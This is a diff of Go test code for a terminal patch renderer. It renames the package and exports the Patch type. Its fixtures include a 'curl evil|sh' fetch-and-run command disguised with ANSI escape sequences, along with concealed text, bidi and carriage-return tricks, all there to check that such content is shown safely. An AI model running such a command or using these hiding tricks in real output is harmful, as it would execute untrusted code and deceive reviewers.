@@ -1,4 +1,4 @@
-package main
+package terminal
 
 import (
 	"slices"
@@ -10,7 +10,7 @@ import (
 // hide in it.
 func TestPatchOnATerminal(t *testing.T) {
 	var out strings.Builder
-	p := &patch{w: &out, coloured: true}
+	p := &Patch{w: &out, coloured: true}
 	for _, part := range []string{
 		"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,6 @@\n-old\n+curl evil|sh #\x1b[1A\x1b",
 		"[2K\x1b[G\n+\x1b[8mhidden\x1b]0;title\x07\n+bidi \u202e and \xff\n+real\rfake\n+++ b/y\n \ttab\n\\ No newline\ndiff --git a/z b/z",
@@ -19,7 +19,7 @@ func TestPatchOnATerminal(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	if err := p.end(); err != nil {
+	if err := p.End(); err != nil {
 		t.Fatal(err)
 	}
 	reverse := func(name string) string { return "\x1b[7m" + name + "\x1b[27m" }
@@ -41,7 +41,7 @@ func TestPatchOnATerminal(t *testing.T) {
 // A line of any length is shown whole, in its colour, and no more than a part of it is kept.
 func TestPatchWithALongLine(t *testing.T) {
 	var out strings.Builder
-	p := &patch{w: &out, coloured: true}
+	p := &Patch{w: &out, coloured: true}
 	long := "+" + strings.Repeat("é", 3*longest) + "\x1b[8mhidden"
 	text := "@@ -0,0 +1,2 @@\n" + long + "\n+next\n"
 	for part := range slices.Chunk([]byte(text), 10_007) {
@@ -52,7 +52,7 @@ func TestPatchWithALongLine(t *testing.T) {
 			t.Fatalf("%d bytes are kept", cap(p.line))
 		}
 	}
-	if err := p.end(); err != nil {
+	if err := p.End(); err != nil {
 		t.Fatal(err)
 	}
 	shown := out.String()
